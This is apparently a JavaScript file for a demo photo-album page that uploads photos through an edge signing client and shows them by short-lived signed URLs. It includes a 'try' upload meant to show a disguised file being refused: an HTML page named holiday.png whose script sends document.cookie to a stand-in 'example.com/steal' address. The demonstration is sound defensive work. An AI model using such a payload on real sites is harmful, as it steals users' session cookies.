// The album's page: uploads with the browser client, and photos by URLs that the signer gives to whoever looks.

import { createClient, EdgeSignerError } from "/edge-signer/index.js";
import { $, element, Failure, setHint, showAlert, showOutcome, showProgress } from "./elements.js";
import { inWords, isVerdict, reasonOf } from "./words.js";

const NAMES = { alice: "Alice", bob: "Bob" };
const WEB_PAGE = `<!doctype html>
<title>Holiday</title>
<script>
  location = "https://example.com/steal?" + document.cookie;
</script>
`;

const radios = $("who").elements.user;
let client;
let busy = false;
// Of the last list that was asked for: an answer to an earlier one comes too late to be shown.
let latest = 0;

const user = () => radios.value;
const isMember = () => user() in NAMES;

// The application

async function call(path, options) {
  const response = await fetch(path, { cache: "no-store", ...options }).catch(() => null);
  if (!response)
    throw new Failure("The application did not answer. Check that it runs, then reload.");
  if (!response.ok)
    throw new Failure(`The application answered ${response.status}. Reload this page.`);
  return response.json();
}

function signIn(user) {
  const headers = { "content-type": "application/json" };
  return call("/session", { method: "POST", headers, body: JSON.stringify({ user }) });
}

const token = async () => (await call("/token")).token;

/** What the client does, with its errors in words. */
const told = (promise) =>
  promise.catch((error) => {
    throw error instanceof EdgeSignerError ? inWords(error) : error;
  });

// The album

function photoItem({ key, owner, name }, url) {
  const image = element("img", { alt: name, width: 600, height: 400, loading: "eager", src: url });
  image.onerror = () =>
    image.replaceWith(
      element("p", { className: "missing note" }, "This browser can't show this photo."),
    );
  const target = { href: url, target: "_blank", rel: "noopener" };
  const summary = element("summary", {}, "Its URL, for five minutes");
  return element(
    "li",
    { className: "card" },
    image,
    element("h3", {}, name),
    element("p", { className: "note" }, `From ${NAMES[owner] ?? owner}`),
    element(
      "details",
      {},
      summary,
      element("p", {}, element("a", target, element("code", {}, url))),
    ),
  );
}

const counted = (count) => {
  if (count === 0) return "There are no photos yet.";
  if (count === 1) return "1 photo, by a URL that was signed for you.";
  return `${count} photos, each by a URL that was signed for you.`;
};

async function showAlbum() {
  const mine = ++latest;
  // What the last user saw is gone before the next one's is there.
  $("album").replaceChildren();
  if (!isMember()) {
    $("count").textContent =
      user() === "operator"
        ? "The operator sees no photos here, but who was given a URL for them."
        : "Say who you are to see it.";
    return;
  }
  const { photos } = await call("/photos");
  const sign = ({ key }) => told(client.presign({ operation: "GetObject", key, expires_in: 300 }));
  const signed = await Promise.all(photos.map(sign));
  if (mine !== latest) return;
  $("album").replaceChildren(...photos.map((photo, index) => photoItem(photo, signed[index].url)));
  $("count").textContent = counted(photos.length);
}

// Uploads

/** Uploads a file, and shows at a place of the page how far it is and what came of it. */
async function upload(file, { status, result, onProgress }) {
  const say = (text) => ($(status).textContent = text);
  $(result).replaceChildren();
  say(`Sending ${file.name}…`);
  const onChecking = () => {
    $(status).classList.add("checking");
    say(`Checking ${file.name}… Until that is done, nobody can see it.`);
  };
  const key = `album/${user()}/${crypto.randomUUID()}-${file.name}`;
  try {
    await client.upload(file, { key, onChecking, onProgress, retries: 1 });
    say("");
    showOutcome(result, "outcome", `${file.name} is in the album.`);
    await showAlbum();
  } catch (error) {
    say("");
    if (!(error instanceof EdgeSignerError)) throw error;
    const why = isVerdict(error) ? reasonOf(error) : inWords(error).message;
    const summary = `${file.name} was not kept.`;
    showOutcome(result, "outcome refused", summary, element("p", {}, why));
  } finally {
    $(status).classList.remove("checking");
  }
}

function showControls() {
  const wait = busy ? "Wait for the current upload to end." : "";
  const who = isMember() ? "" : "Say first that you are Alice or Bob.";
  $("file").disabled = busy;
  for (const radio of radios) radio.disabled = busy;
  setHint("upload", wait || who || ($("file").files.length > 0 ? "" : "Choose a photo first."));
  setHint("try", wait || who);
}

async function run(step) {
  if (busy) return;
  busy = true;
  $("alert").replaceChildren();
  showControls();
  await step().catch(showAlert);
  busy = false;
  showControls();
}

const isEnabled = (button) => $(button).getAttribute("aria-disabled") === "false";

async function onUpload() {
  if (!isEnabled("upload")) return;
  const [file] = $("file").files;
  showProgress({ loaded: 0, total: 1 });
  $("progress-area").hidden = false;
  await run(() => upload(file, { status: "status", result: "result", onProgress: showProgress }));
  $("progress-area").hidden = true;
}

function onTry() {
  if (!isEnabled("try")) return;
  const file = new File([WEB_PAGE], "holiday.png", { type: "image/png" });
  run(() => upload(file, { status: "try-status", result: "try-result" }));
}

async function onWho() {
  const chosen = user();
  for (const region of ["result", "try-result"]) $(region).replaceChildren();
  await run(async () => {
    await signIn(chosen);
    await showAlbum();
  });
  // A control that was disabled meanwhile has lost the focus.
  for (const radio of radios) if (radio.checked) radio.focus();
}

$("page-text").textContent = WEB_PAGE;
$("file").addEventListener("change", () => {
  $("result").replaceChildren();
  showControls();
});
$("upload").addEventListener("click", onUpload);
$("try").addEventListener("click", onTry);
for (const radio of radios) radio.addEventListener("change", onWho);
showControls();
run(async () => {
  const { user, edge } = await call("/session");
  client = createClient({ edge, token });
  if (user !== null) radios.value = user;
  await showAlbum();
});
